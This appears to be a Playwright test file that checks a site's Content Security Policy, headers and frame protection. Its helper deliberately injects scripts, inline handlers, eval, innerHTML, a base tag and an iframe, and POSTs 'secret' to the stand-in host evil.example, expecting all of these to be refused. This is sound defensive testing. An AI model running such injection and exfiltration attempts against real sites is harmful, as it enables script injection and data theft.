import type { BrowserContext, Page } from '@playwright/test'

import { scrollThrough } from './scrolling.ts'
import { addresses, expect, test, visit, walkTheMenu } from './site.ts'

// Every other journey fails on a complaint of the browser, so on any breach of the policy by a
// page; these look at what the policy keeps out, and at hosts that send no headers.

/** What the browser says of attempts that the policy stops, and what it would have asked. */
const REFUSED = /Content Security Policy|Trusted(HTML|Script)|evil\.example/

test('nothing that gets into a page can run, load or send', async ({ page, site }) => {
  site.allow(REFUSED)
  for (const address of ['/', '/contact']) {
    await visit(page, address)
    await expectRefusals(page)
  }
})

test('nor where a host sends no headers, and every page works', async ({ page, context, site }) => {
  await withoutHeaders(context)
  for (const address of addresses) {
    await visit(page, address)
    await scrollThrough(page)
  }
  await walkTheMenu(page)
  site.allow(REFUSED)
  await expectRefusals(page)
})

test('no other site can show this one in a frame', async ({ page, baseURL, site }) => {
  site.allow(/frame-ancestors|ERR_BLOCKED_BY_RESPONSE|localhost\/other/)
  await page.route('http://localhost/other', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe>` }),
  )
  await page.goto('http://localhost/other')
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/)
})

/** Tries what an intruder would, and waits until every attempt is reported as refused. */
async function expectRefusals(page: Page) {
  const ran = await page.evaluate(async () => {
    const reports: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      reports.push(effectiveDirective)
    })
    const done = { script: false, handler: false, evaluated: false, html: false, sent: false }
    Object.assign(window, { done })
    const script = document.createElement('script')
    script.append('window.done.script = true')
    const image = Object.assign(new Image(), { src: 'https://evil.example/picture.png' })
    const button = document.createElement('button')
    try {
      // an attribute, as an intruder's HTML would have it
      button.setAttribute('onclick', 'window.done.handler = true')
    } catch {}
    const base = Object.assign(document.createElement('base'), { href: 'https://evil.example/' })
    const frame = Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })
    document.body.append(script, image, button, frame)
    document.head.append(base)
    button.click()
    // in a turn of its own, because in this one the test's own tool may do it
    await new Promise<void>((resolve) => {
      requestAnimationFrame(() => {
        try {
          done.evaluated = Boolean(Reflect.construct(Function, ['return true'])())
        } catch {}
        resolve()
      })
    })
    try {
      document.createElement('p').innerHTML = '<b>text</b>'
      done.html = true
    } catch {}
    done.sent = await fetch('https://evil.example/', { method: 'POST', body: 'secret' }).then(
      () => true,
      () => false,
    )
    const all = ['img-src', 'base-uri', 'frame-src', 'connect-src', 'require-trusted-types']
    const missing = () => all.some((name) => !reports.some((each) => each.startsWith(name)))
    // the test ends by its own limit when one is never reported
    while (missing()) await new Promise((resolve) => requestAnimationFrame(resolve))
    for (const each of [script, image, button, base, frame]) each.remove()
    return done
  })
  expect(Object.values(ran)).not.toContain(true)
}

/** The pages as a host serves them that knows nothing of our headers. */
async function withoutHeaders(context: BrowserContext) {
  await context.route('**', async (route) => {
    if (route.request().resourceType() !== 'document') return route.fallback()
    const response = await route.fetch()
    const headers = response.headers()
    expect(headers['content-security-policy']).toContain("default-src 'self'")
    delete headers['content-security-policy']
    return route.fulfill({ response, headers })
  })
}
